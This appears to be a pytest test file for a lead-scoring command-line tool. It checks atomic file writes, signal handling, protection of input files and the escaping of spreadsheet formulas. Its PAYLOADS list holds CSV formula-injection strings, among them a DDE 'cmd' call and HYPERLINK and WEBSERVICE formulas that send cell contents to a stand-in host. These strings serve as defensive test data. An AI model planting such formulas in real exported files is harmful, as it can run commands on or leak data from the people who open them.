"""The files that the command line writes: whole or absent, never over an input, and without formulas."""

import csv
import errno
import io
import json
import os
import random
import signal
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from history_of_a_company import history

from leadqual import STANDARD, Scorecard, Signal, check
from leadqual.cli import DONE, FOUND, UNUSABLE, main
from leadqual.intake.headers import escape, unescape
from leadqual.intake.opening import read_table
from leadqual.policy.policy_file import to_toml
from leadqual.scoring.scorecard_file import scorecard_to_toml

pytest.importorskip("cyclopts", reason="needs cyclopts")
pl = pytest.importorskip("polars", reason="needs polars")

LEADS = "name,email,responded\nAna,ana@example.com,yes\nBen,nobody,no\n"
LAYOUT = '[layout]\nname = "own"\n\n[fields]\nemail = "email"\n'
COMMANDS = {
    "check --output": (("leads.csv", "policy.toml", "layout.toml"), "csv"),
    "check --rejects": (("leads.csv", "policy.toml", "layout.toml"), "csv"),
    "funnel --svg": (("leads.csv", "policy.toml", "layout.toml"), "svg"),
    "learn --output": (("acme.csv",), "toml"),
    "learn --svg": (("acme.csv",), "svg"),
    "prioritize --output": (("acme.csv", "card.toml"), "csv"),
    "evaluate --svg": (("acme.csv", "card.toml"), "svg"),
    "classify --output": (("table.csv",), "csv"),
}
"""Each command and option that writes, with the files that it is given to read and what it writes."""

OPTIONS = {
    "check": ["leads.csv", "--policy", "policy.toml", "--layout", "layout.toml"],
    "funnel": ["leads.csv", "--policy", "policy.toml", "--layout", "layout.toml"],
    "learn": ["acme.csv", "--outcome", "won"],
    "prioritize": ["acme.csv", "--scorecard", "card.toml"],
    "evaluate": ["acme.csv", "--scorecard", "card.toml", "--outcome", "won"],
    "classify": ["table.csv", "--policy", "policy.toml"],
}
CARD = Scorecard("by hand", base=50, signals=[Signal.number("minutes", {10: 20, 20: 40})])


@pytest.fixture
def folder(tmp_path, monkeypatch):
    """Return a folder with a file of each kind that commands read, in which they are run."""
    (tmp_path / "leads.csv").write_text(LEADS, "utf-8")
    (tmp_path / "policy.toml").write_text(to_toml(STANDARD), "utf-8")
    (tmp_path / "layout.toml").write_text(LAYOUT, "utf-8")
    (tmp_path / "card.toml").write_text(scorecard_to_toml(CARD), "utf-8")
    pl.DataFrame({"who": ["ana"], "responded": [True]}).write_csv(tmp_path / "table.csv")
    rows = history(200, strength=2)
    with (tmp_path / "acme.csv").open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, rows[0])
        writer.writeheader()
        writer.writerows(rows)
    monkeypatch.chdir(tmp_path)
    return tmp_path


def arguments(command, target):
    name, option = command.split()
    return [name, *OPTIONS[name], option, str(target)]


def contents(folder):
    return {path.relative_to(folder): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


def absolute(path):
    return path.absolute()


def symbolic_link(path):
    link = path.with_name(f"link{path.suffix}")
    link.symlink_to(path)
    return link


def hard_link(path):
    link = path.with_name(f"link{path.suffix}")
    link.hardlink_to(path)
    return link


def linked_folder(path):
    link = path.parent.with_name(f"{path.parent.name}-link")
    link.symlink_to(path.parent)
    return link / path.name


WAYS = (absolute, symbolic_link, hard_link, linked_folder)


class TestNeverOverAnInput:
    @pytest.mark.parametrize("way", WAYS)
    @pytest.mark.parametrize(
        ("command", "read"), [(command, read) for command, (files, _) in COMMANDS.items() for read in files]
    )
    def test_no_command_writes_over_what_it_reads(self, folder, capsys, command, read, way):
        target = way(folder / read)
        before = contents(folder)

        assert main(arguments(command, target)) == UNUSABLE

        option = command.split()[1]
        assert capsys.readouterr() == (
            "",
            f"leadqual: {option}: is a file that this command reads; name another one\n",
        )
        assert contents(folder) == before

    @pytest.mark.parametrize("way", WAYS)
    @pytest.mark.parametrize(
        ("command", "second"), [("check --output", "--rejects"), ("learn --output", "--svg")]
    )
    def test_no_command_writes_one_file_twice(self, folder, capsys, command, second, way):
        target = folder / "out.csv"
        target.touch()
        other = way(target)

        assert main([*arguments(command, target), second, str(other)]) == UNUSABLE

        told = capsys.readouterr().err
        assert told == f"leadqual: {second}: is the file that --output writes; name another one\n"
        assert target.read_bytes() == b""

    def test_two_names_of_a_file_that_is_not_there_yet_are_one(self, folder, capsys):
        command = arguments("check --output", "out.csv")

        assert main([*command, "--rejects", str(folder / "." / "out.csv")]) == UNUSABLE
        assert "is the file that --output writes" in capsys.readouterr().err

    def test_standard_input_may_be_the_file(self, folder):
        with (folder / "leads.csv").open("rb") as file:
            status, out, err = leadqual("check", "-", "-o", "leads.csv", stdin=file)

        assert (status, out) == (UNUSABLE, b"")
        assert b"--output: is a file that this command reads" in err
        assert (folder / "leads.csv").read_text("utf-8") == LEADS


COMMAND = "import sys; from leadqual.cli import main; sys.exit(main())"


def process(*arguments, first="pass", **options):
    """Start the command line in a process of its own, which does something *first*."""
    # What is done first is done by Python: to fork a process that has threads may hang.
    # Coverage could not write its own file on a full disk, and a signal would leave its lock held for ever.
    plain = {name: value for name, value in os.environ.items() if not name.startswith("COVERAGE_")}
    options = {"env": plain, "stdout": subprocess.PIPE, "stderr": subprocess.PIPE} | options
    return subprocess.Popen([sys.executable, "-c", f"{first}; {COMMAND}", *map(str, arguments)], **options)


def leadqual(*arguments, **options):
    """Return what became of a process that runs the command line: status, output, errors."""
    with process(*arguments, **options) as running:
        out, err = running.communicate(timeout=120)
        return running.returncode, out, err


class TestWholeOrAbsent:
    @pytest.mark.parametrize("command", COMMANDS)
    def test_a_file_that_is_replaced_keeps_its_mode_and_a_new_one_has_the_usual_mode(
        self, folder, command, capsys
    ):
        new, old = (folder / f"{name}.{COMMANDS[command][1]}" for name in ("new", "old"))
        old.write_text("old", "utf-8")
        old.chmod(0o640)
        before = os.umask(0o027)
        try:
            assert main(arguments(command, new)) < UNUSABLE
        finally:
            os.umask(before)
        assert main(arguments(command, old)) < UNUSABLE

        assert [stat.S_IMODE(path.stat().st_mode) for path in (new, old)] == [0o640, 0o640]
        assert b"" != old.read_bytes() != b"old"
        assert new.read_bytes() != b""
        assert not list(folder.glob(".leadqual*"))
        capsys.readouterr()

    @pytest.mark.parametrize("command", COMMANDS)
    def test_until_it_is_whole_a_file_is_private_and_of_a_name_that_nobody_foresees(
        self, folder, command, monkeypatch, capsys
    ):
        seen = []
        replace = Path.replace

        def watched(self, target):
            seen.append((self.name, stat.S_IMODE(before.st_mode)) if (before := modes.get(self)) else None)
            return replace(self, target)

        modes = {}
        chmod = Path.chmod
        monkeypatch.setattr(
            Path, "chmod", lambda self, mode: (modes.update({self: self.stat()}), chmod(self, mode))[1]
        )
        monkeypatch.setattr(Path, "replace", watched)
        target = folder / f"out.{COMMANDS[command][1]}"
        main(arguments(command, target))
        main(arguments(command, target))

        assert [mode for _, mode in seen] == [0o600, 0o600]
        assert seen[0][0] != seen[1][0]
        capsys.readouterr()

    def test_a_link_is_followed_and_stays_a_link(self, folder, capsys):
        (folder / "real.csv").touch()
        link = symbolic_link(folder / "real.csv")

        assert main(arguments("check --output", link)) == FOUND
        assert link.is_symlink()
        assert "ana@example.com" in (folder / "real.csv").read_text("utf-8")
        capsys.readouterr()

    def test_a_file_that_may_not_be_written_is_not_replaced(self, folder, capsys, monkeypatch):
        (folder / "out.csv").touch(mode=0o444)
        monkeypatch.setattr(os, "access", lambda *_: False)

        assert main(arguments("check --output", folder / "out.csv")) == UNUSABLE
        assert "out.csv: cannot be written: Permission denied; " in capsys.readouterr().err

    @pytest.mark.parametrize("command", COMMANDS)
    def test_a_refused_call_leaves_what_was_there(self, folder, command, capsys):
        target = folder / f"out.{COMMANDS[command][1]}"
        target.write_text("precious", "utf-8")
        call = arguments(command, target)
        (folder / call[1]).write_bytes(b"")
        before = contents(folder)

        assert main(call) == UNUSABLE
        assert contents(folder) == before
        assert capsys.readouterr().err.count("\n") == 1

    @pytest.mark.parametrize("command", COMMANDS)
    def test_a_full_disk_is_one_line_that_names_the_file(self, folder, command):
        target = folder / f"out.{COMMANDS[command][1]}"
        before = contents(folder)

        full = "import resource; resource.setrlimit(resource.RLIMIT_FSIZE, (1, 1))"
        status, out, err = leadqual(*arguments(command, target), first=full)

        assert (status, out) == (UNUSABLE, b"")
        assert err.decode() == (
            f"leadqual: {target}: cannot be written: File too large; "
            "name a file in a folder that exists and has space\n"
        )
        assert contents(folder) == before

    def test_of_two_files_none_is_there_unless_both_are_whole(self, folder, capsys, monkeypatch):
        def full(self, target):
            raise OSError(errno.ENOSPC, "No space left on device")

        monkeypatch.setattr(Path, "replace", full)
        command = [*arguments("check --output", "out.csv"), "--rejects", "bad.csv"]
        before = contents(folder)

        assert main(command) == UNUSABLE
        assert "leadqual: out.csv or bad.csv: cannot be written: No space" in capsys.readouterr().err
        assert contents(folder) == before

    def test_a_parquet_file_on_a_full_disk(self, folder, capsys):
        Path("out.parquet").symlink_to("/dev/full")

        assert main(arguments("classify --output", "out.parquet")) == UNUSABLE
        assert capsys.readouterr().err.startswith("leadqual: out.parquet: cannot be written: No space left")

    def test_standard_output_that_is_full_is_one_line(self, folder, capsys, monkeypatch):
        class Full(io.StringIO):
            def write(self, text):
                raise OSError(errno.ENOSPC, "No space left on device")

        told = "leadqual: standard output: cannot be written: No space left on device\n"
        with Path("/dev/full").open("w", encoding="utf-8") as full:
            assert leadqual("glossary", stdout=full) == (UNUSABLE, None, told.encode())
        monkeypatch.setattr(sys, "stdout", Full())
        assert main(["glossary"]) == UNUSABLE
        assert capsys.readouterr().err == told


class TestStreams:
    """Pipes and the like are written straight; a hyphen is standard output."""

    def test_nothing_is_kept_of_what_goes_to_dev_null(self, folder, capsys):
        assert main([*arguments("check --output", "/dev/null"), "--rejects", "/dev/null"]) == FOUND
        assert Path("/dev/null").is_char_device()
        capsys.readouterr()

    @pytest.mark.parametrize(("command", "lines"), [("prioritize --output", 201), ("classify --output", 2)])
    def test_a_pipe_is_written_straight(self, folder, capsys, command, lines):
        os.mkfifo("pipe.csv")
        read = []
        reader = threading.Thread(target=lambda: read.append(Path("pipe.csv").read_text("utf-8")))
        reader.start()

        assert main(arguments(command, "pipe.csv")) == DONE
        reader.join()
        assert read[0].count("\n") == lines
        assert Path("pipe.csv").is_fifo()
        capsys.readouterr()

    def test_a_reader_that_goes_away_from_a_pipe_is_no_error(self, folder, monkeypatch):
        import leadqual.cli.scorecards

        def gone(*_):
            raise BrokenPipeError

        monkeypatch.setattr(leadqual.cli.scorecards, "TableWriter", gone)
        monkeypatch.setattr(sys, "stdout", sys.stdout)

        assert main(arguments("prioritize --output", "out.csv")) == DONE
        assert not Path("out.csv").exists()

    def test_a_hyphen_is_standard_output_and_the_report_goes_aside(self, folder, capsys):
        main(arguments("check --output", "contacts.csv"))
        report = capsys.readouterr().out

        assert main(arguments("check --output", "-")) == FOUND
        assert capsys.readouterr() == (Path("contacts.csv").read_bytes().decode(), report)
        assert main(["glossary"]) == DONE
        assert capsys.readouterr().err == ""

    def test_standard_output_by_its_name_is_not_overwritten(self, folder):
        if not Path("/dev/stdout").exists():
            pytest.skip("needs /dev/stdout")
        with Path("all.txt").open("wb") as file:
            file.write(b"before\n")
            file.flush()
            status, _, err = leadqual(*arguments("check --output", "/dev/stdout"), stdout=file)

        assert status == FOUND
        written = Path("all.txt").read_text("utf-8")
        assert written.startswith("before\nid,name,")
        assert written.count("\n") == 3
        assert b"2  rows read" in err

    def test_a_closed_stream_is_told(self, folder, capsys, monkeypatch):
        monkeypatch.setattr(sys, "stdout", None)
        assert main(arguments("check --output", "-")) == UNUSABLE
        assert capsys.readouterr().err.startswith("leadqual: -: cannot be written: it is closed; ")
        fstat = os.fstat
        monkeypatch.setattr(os, "fstat", lambda number: fstat(number if number > 1 else -1))
        Path("old.csv").touch()
        assert main(arguments("check --output", "old.csv")) == FOUND
        capsys.readouterr()
        monkeypatch.setattr(sys, "stdin", None)
        assert main(["check", "-"]) == UNUSABLE
        assert capsys.readouterr().err == (
            "leadqual: -: standard input is closed; name a file, or send one to standard input\n"
        )

    def test_streams_may_be_closed_from_the_beginning(self, folder):
        closed = ["sh", "-c", 'exec "$0" "$@" <&- >&-', sys.executable, "-c", COMMAND]
        done = subprocess.run(
            [*closed, "check", "leads.csv", "-o", "out.csv"], check=False, capture_output=True
        )

        assert (done.returncode, done.stderr) == (FOUND, b"")
        assert Path("out.csv").exists()


class TestSignals:
    """Whatever ends a command leaves no file that is not whole."""

    @pytest.fixture(autouse=True)
    def heard(self):
        """A shell that runs tests in the background lets them ignore interruptions."""
        before = signal.signal(signal.SIGINT, signal.default_int_handler)
        yield
        signal.signal(signal.SIGINT, before)

    @pytest.mark.parametrize(("number", "status"), [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
    def test_a_signal_is_one_line_and_leaves_nothing(self, folder, capsys, monkeypatch, number, status):
        from leadqual.cli import checking

        def interrupted(result, file):
            assert len(list(folder.glob(".leadqual-*.csv"))) == 2
            yield from result
            signal.raise_signal(number)

        monkeypatch.setattr(checking, "_with_progress", interrupted)
        before, handler = contents(folder), signal.getsignal(number)

        assert main([*arguments("check --output", "out.csv"), "--rejects", "bad.csv"]) == status
        assert capsys.readouterr() == (
            "",
            f"leadqual: stopped by {number.name}; no unfinished file is left\n",
        )
        assert contents(folder) == before
        assert signal.getsignal(number) is handler

    @pytest.mark.parametrize("interruption", [KeyboardInterrupt, signal.SIGTERM])
    def test_an_interruption_of_the_last_step_does_not_split_it(
        self, folder, capsys, monkeypatch, interruption
    ):
        replace, calls = Path.replace, []

        def interrupted(self, target):
            calls.append(target)
            if len(calls) == 2:
                if interruption is KeyboardInterrupt:
                    raise KeyboardInterrupt
                signal.raise_signal(interruption)
            return replace(self, target)

        monkeypatch.setattr(Path, "replace", interrupted)

        command = [*arguments("check --output", "out.csv"), "--rejects", "bad.csv"]
        assert main(command) == (130 if interruption is KeyboardInterrupt else 143)
        assert {"out.csv", "bad.csv"} <= {path.name for path in folder.iterdir()}
        assert not list(folder.glob(".leadqual*"))
        capsys.readouterr()

    def test_a_second_signal_changes_nothing_of_the_first(self, folder, capsys, monkeypatch):
        from leadqual.cli import checking

        def twice(result, file):
            try:
                signal.raise_signal(signal.SIGTERM)
            finally:
                signal.raise_signal(signal.SIGINT)
            yield

        monkeypatch.setattr(checking, "_with_progress", twice)

        assert main(arguments("check --output", "out.csv")) == 143
        assert not list(folder.glob("*out.csv"))
        capsys.readouterr()

    def test_a_table_that_is_being_classified_is_let_go(self, folder, capsys, monkeypatch):
        from leadqual.cli import frames

        monkeypatch.setattr(frames, "sleep", lambda _: signal.raise_signal(signal.SIGTERM))
        rows = 200_000
        pl.DataFrame({"who": ["ana"] * rows, "responded": [True] * rows}).write_csv("table.csv")
        before = contents(folder)

        assert main(arguments("classify --output", "out.csv")) == 143
        assert contents(folder) == before
        capsys.readouterr()

    def test_whoever_handles_signals_keeps_them(self, folder, capsys):
        seen = []
        before = signal.signal(signal.SIGTERM, lambda *_: None)
        try:
            main(["glossary"])
            assert signal.getsignal(signal.SIGTERM) is not before
        finally:
            signal.signal(signal.SIGTERM, before)
        thread = threading.Thread(target=lambda: seen.append(main(["glossary"])))
        thread.start()
        thread.join()

        assert seen == [DONE]
        capsys.readouterr()

    def interrupted(self, folder, number, wait):
        """Check leads.csv in a process of its own, and stop it a while after it began to write."""
        before = contents(folder)
        # A shell that runs tests in the background lets its children ignore interruptions.
        heard = "import signal; signal.signal(signal.SIGINT, signal.default_int_handler)"
        with process("check", "leads.csv", "-o", "out.csv", "--rejects", "bad.csv", first=heard) as running:
            while len(list(folder.glob(".leadqual-*"))) < 2:
                time.sleep(0.001)
                assert running.poll() is None
            time.sleep(wait)
            running.send_signal(number)
            out, err = running.communicate(timeout=60)

        assert (running.returncode, out) == (128 + number, b"")
        assert err == f"leadqual: stopped by {number.name}; no unfinished file is left\n".encode()
        assert contents(folder) == before

    @pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM])
    def test_a_process_that_is_stopped_leaves_nothing(self, folder, number):
        (folder / "leads.csv").write_text(LEADS + "Ana,ana@example.com,yes\n" * 100_000, "utf-8")

        self.interrupted(folder, number, 0.2)

    @pytest.mark.long
    @pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM])
    def test_a_check_of_a_million_rows_is_stopped_at_ten_random_moments(self, folder, number):
        rows = (f"Ana,ana{n}@example.com,yes\nBen,nobody{n},no\n" for n in range(500_000))
        (folder / "leads.csv").write_text("name,email,responded\n" + "".join(rows), "utf-8")
        choose = random.Random(int(number))

        for _ in range(10):
            self.interrupted(folder, number, choose.uniform(0, 5))


PAYLOADS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://example.com/?"&A1,"open")',
    '=WEBSERVICE("http://example.com/"&A1)',
    "=A1&B1-C1",
    "='file:///etc/passwd'#$passwd.A1",
    "==1+1",
    "=",
    "+1+1",
    "+cmd|'/C calc'!A0",
    "+49 30 1+1",
    "-1+1",
    "-cmd|'/C calc'!A0",
    "-2-3",
    "@SUM(1+1)",
    "@A1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",
    "''@SUM(1)",
    '=1+1,"x"',
    "=1+1;=2+2",
]
BEGINNINGS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\t", "\r", "\n")
HEADER = "=h"


def cells_of(path):
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def live(path):
    """Return the cells of a file that a spreadsheet would run."""
    cells = [cell for row in cells_of(path) for cell in row]
    return [cell for cell in cells if cell.startswith(BEGINNINGS) and not cell.lstrip("+-").isdigit()]


@pytest.fixture
def payloads(folder):
    """Return files that hold every payload: rows that are accepted, rows that are rejected, a table."""
    for name, answer in (("leads.csv", "yes"), ("bad.csv", "perhaps")):
        with (folder / name).open("w", encoding="utf-8", newline="") as file:
            writer = csv.writer(file)
            writer.writerow(["id", "responded", HEADER, "phone"])
            writer.writerows([n, answer, text, "+4930901820"] for n, text in enumerate(PAYLOADS))
    frame = pl.DataFrame({"who": PAYLOADS, HEADER: PAYLOADS, "responded": [True] * len(PAYLOADS)})
    frame.write_csv(folder / "table.csv")
    frame.write_parquet(folder / "table.parquet")
    return folder


class TestFormulas:
    """No cell and no name that is written can run, and a file that goes round is read back exactly."""

    WRITES = (
        ("check", "leads.csv", "--output"),
        ("check", "bad.csv", "--rejects"),
        ("prioritize", "leads.csv", "--scorecard", "card.toml", "--output"),
        ("classify", "table.csv", "--output"),
        ("classify", "table.parquet", "--output"),
    )

    @pytest.mark.parametrize("command", WRITES, ids=" ".join)
    def test_none_of_27_payloads_is_live_and_each_pass_changes_nothing(self, payloads, command, capsys):
        first, *options = command[0], *command[2:]
        source, passes = command[1], [payloads / f"pass{number}.csv" for number in range(4)]
        for number, path in enumerate(passes):
            prefix = ["--prefix", f"pass{number}_"] if first == "classify" else []
            assert main([first, source, *prefix, *options, str(path)]) < UNUSABLE, capsys.readouterr().err
            source = str(path)

        assert len(PAYLOADS) == 27
        assert [live(path) for path in passes] == [[], [], [], []]
        header, *rows = cells_of(passes[0])
        column = header.index(f"'{HEADER}")
        assert [row[column].lstrip("'") for row in rows] == [text.lstrip("'") for text in PAYLOADS]
        for later in passes[1:]:
            again, *later_rows = cells_of(later)
            column_again = again.index(f"'{HEADER}")
            assert [row[column_again] for row in later_rows] == [row[column] for row in rows]

    @pytest.mark.parametrize(
        "command",
        [*WRITES[:3], ("classify", "table.csv", "--prefix", "leadqual_", "--output")],
        ids=" ".join,
    )
    def test_what_is_written_is_read_back_exactly(self, payloads, command, capsys):
        main([*command, "out.csv"])

        found = read_table((payloads / "out.csv").read_bytes())
        assert [row[HEADER] for _, row in found.rows] == PAYLOADS
        if command[0] == "check" and command[-1] == "--output":
            contacts = check(payloads / "out.csv").contacts
            assert [dict(contact.extra)[HEADER] for contact in contacts] == PAYLOADS
        capsys.readouterr()

    def test_a_file_of_ours_is_classified_without_another_apostrophe(self, payloads, capsys):
        main(["prioritize", "table.csv", "--scorecard", "card.toml", "-o", "scored.csv"])
        main(["classify", "scored.csv", "-o", "out.csv"])

        assert [row[HEADER] for _, row in read_table(Path("out.csv").read_bytes()).rows] == PAYLOADS
        capsys.readouterr()

    def test_what_no_spreadsheet_reads_is_not_escaped(self, payloads, capsys):
        main(["classify", "table.parquet", "-o", "out.parquet"])
        main(["classify", "table.parquet", "-o", "out.ndjson"])

        assert pl.read_parquet("out.parquet")[HEADER].to_list() == PAYLOADS
        assert pl.read_ndjson("out.ndjson")[HEADER].to_list() == PAYLOADS
        capsys.readouterr()

    def test_numbers_and_telephone_numbers_stay_as_they_are(self, folder, capsys):
        pl.DataFrame({"phone": ["+4930901820", "-12.5", "7"], "responded": [True] * 3}).write_csv("table.csv")
        main(["classify", "table.csv", "-o", "out.csv"])

        assert [row[0] for row in cells_of(folder / "out.csv")] == ["phone", "+4930901820", "-12.5", "7"]
        capsys.readouterr()

    def test_polars_escapes_what_python_escapes(self, folder, capsys):
        choose = random.Random(7)
        texts = [
            "".join(choose.choices("'=+-1a@\t\n\uff1d. ", k=choose.randrange(1, 7))) for _ in range(3_000)
        ]
        pl.DataFrame({"text": texts, "responded": [True] * len(texts)}).write_parquet("in.parquet")
        main(["classify", "in.parquet", "--prefix", "leadqual_", "-o", "out.csv"])

        assert [row[0] for row in cells_of(folder / "out.csv")[1:]] == [escape(text) for text in texts]
        assert [unescape(escape(text)) for text in texts] == texts
        capsys.readouterr()


LINKEDIN = """Notes:
See the help.

First Name,Last Name,URL,Email Address,Company,Position,Connected On
Ana,Lee,https://example.com/ana,,,,01 Jan 2026
"""


class TestRoundTrips:
    """A file goes round any number of times and stays as it is."""

    def test_a_name_that_holds_other_delimiters_does_not_change_how_the_file_is_split(self, folder, capsys):
        names = ["minutes", ";".join("abcdefghi"), "|".join("abcdefghi")]
        Path("in.jsonl").write_text(json.dumps(dict.fromkeys(names, 7)) + "\n", "utf-8")
        main(["prioritize", "in.jsonl", "--scorecard", "card.toml", "-o", "out.csv"])

        assert read_table(Path("out.csv").read_bytes()).names[:3] == tuple(names)
        capsys.readouterr()

    def test_scores_are_replaced_and_not_added_again(self, folder, capsys):
        main(["prioritize", "acme.csv", "--scorecard", "card.toml", "-o", "one.csv"])
        main(["prioritize", "one.csv", "--scorecard", "card.toml", "-o", "two.csv"])

        assert Path("one.csv").read_bytes() == Path("two.csv").read_bytes()
        capsys.readouterr()

    def test_scoring_changes_no_cell(self, folder, capsys):
        Path("in.csv").write_text('minutes,note\n" 7 "," n/a "\nn/a,  \n', "utf-8")
        main(["prioritize", "in.csv", "--scorecard", "card.toml", "--blank", "n/a", "-o", "out.csv"])

        assert [row[:2] for row in cells_of(folder / "out.csv")[1:]] == [[" 7 ", " n/a "], ["n/a", "  "]]
        assert main(["prioritize", "in.csv", "--scorecard", "card.toml", "--blank", "-"]) == DONE
        capsys.readouterr()

    @pytest.mark.parametrize(
        ("text", "rows"),
        [
            ('name,email,notes\nAna,ana@example.com,"hello\none, two, three\nbye"\n', 1),
            ("firstname,lastname,email,company,points,stage,date_identified\nAna,Lee,ana@example.com\n", 1),
            (LINKEDIN, 1),
        ],
        ids=["a line like a row in quotes", "short rows", "lines before the header"],
    )
    def test_every_row_that_check_accepts_is_a_row_of_the_table(self, text, rows):
        found = read_table(text.encode())

        assert (check(text.encode()).counts.accepted, len(found.rows), found.skipped) == (rows, rows, 0)
        assert set(found.rows[0][1]) == set(found.names)

    def test_columns_called_like_what_json_lines_hold_of_ours_are_kept(self, folder, capsys):
        record = {
            "email": "ana@example.com",
            "history": "met in May",
            "recorded": "by Eve",
            "Leadqual History": "x",
        }
        Path("in.jsonl").write_text(json.dumps(record) + "\n", "utf-8")
        extra = tuple(sorted(record.items())[i] for i in (0, 2, 3))
        assert main(["check", "in.jsonl", "-o", "one.jsonl"]) == DONE
        assert main(["check", "one.jsonl", "-o", "two.jsonl"]) == DONE

        assert check("one.jsonl").contacts == check("two.jsonl").contacts == check("in.jsonl").contacts
        assert check("two.jsonl").contacts[0].extra == extra
        assert Path("one.jsonl").read_bytes() == Path("two.jsonl").read_bytes()
        capsys.readouterr()

    def test_a_history_goes_round_under_a_name_of_ours(self, folder, capsys):
        Path("layout.toml").write_text(
            '[layout]\nname = "own"\nzone = "UTC"\n\n[fields]\nemail = "email"\n\n'
            '[facts]\npurchased = { column = "bought", date = true }\n',
            "utf-8",
        )
        Path("in.csv").write_text("email,bought,history\nana@example.com,2026-01-02,long\n", "utf-8")
        main(["check", "in.csv", "--layout", "layout.toml", "-o", "out.jsonl"])

        (first,), (again,) = check("in.csv", layout="layout.toml").contacts, check("out.jsonl").contacts
        assert first == again
        assert len(again.history.events) == 1
        assert dict(again.extra)["history"] == "long"
        assert set(json.loads(Path("out.jsonl").read_text("utf-8"))) >= {"history", "leadqual_history"}
        capsys.readouterr()
